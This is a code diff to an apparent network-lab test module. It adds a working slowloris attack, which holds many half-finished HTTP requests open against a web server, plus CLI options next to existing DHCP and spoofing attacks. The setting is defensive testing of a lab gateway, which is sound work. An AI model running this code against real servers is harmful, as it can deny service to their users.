@@ -12,6 +12,9 @@ from inside a lab namespace (``ip netns exec NS python -m tests.netlab.attacks .
   address, speaking for any MAC (``--chaddr``, ``--client-id``) from any Ethernet source.
 - ``spoof``: UDP (DNS by default) or a DHCP-port datagram from a source address that is
   not the sender's, to get the gateway to answer someone else.
+- ``slowloris``: many TCP connections to a web server, each trickling its request header a
+  line at a time and never ending it, for a bounded time; says how many it opened and how
+  many the server had closed by the end.
 """
 
 from __future__ import annotations
@@ -187,6 +190,40 @@ def spoof(src: str, dst: str, sport: int, dport: int, count: int) -> dict[str, A
     return {"sent": count}
 
 
+def slowloris(
+    dst: str, port: int, connections: int, seconds: float, every: float
+) -> dict[str, Any]:
+    """``connections`` requests whose header never ends, one more line each ``every``."""
+    import socket
+
+    opened: list[socket.socket] = []
+    refused = closed = 0
+    for _ in range(connections):
+        try:
+            sock = socket.create_connection((dst, port), timeout=2)
+            sock.sendall(b"GET / HTTP/1.1\r\nHost: wifi\r\n")
+            opened.append(sock)
+        except OSError:
+            refused += 1
+    end, n = time.monotonic() + seconds, 0
+    try:
+        while time.monotonic() < end and opened:  # bounded by time (or ended by SIGINT)
+            time.sleep(every)
+            n += 1
+            for sock in list(opened):
+                try:
+                    sock.sendall(f"X-Slow-{n}: 1\r\n".encode())
+                except OSError:
+                    closed += 1
+                    opened.remove(sock)
+                    sock.close()
+    except KeyboardInterrupt:
+        pass
+    for sock in opened:
+        sock.close()
+    return {"opened": connections - refused, "refused": refused, "closed_by_server": closed}
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(prog="python -m tests.netlab.attacks")
     sub = parser.add_subparsers(dest="attack", required=True)
@@ -219,8 +256,16 @@ def main() -> None:
     p.add_argument("--sport", type=int, default=40053)
     p.add_argument("--dport", type=int, default=53)
     p.add_argument("--count", type=int, default=20)
+    p = sub.add_parser("slowloris")
+    p.add_argument("--dst", required=True)
+    p.add_argument("--port", type=int, default=80)
+    p.add_argument("--connections", type=int, default=200)
+    p.add_argument("--seconds", type=float, default=20)
+    p.add_argument("--every", type=float, default=2)
     args = parser.parse_args()
-    if args.attack == "dhcp-release":
+    if args.attack == "slowloris":
+        out = slowloris(args.dst, args.port, args.connections, args.seconds, args.every)
+    elif args.attack == "dhcp-release":
         kind = "request" if args.request else "release"
         out = dhcp_message(
             args.iface, kind, args.address, args.chaddr, args.client_id, args.server, args.src
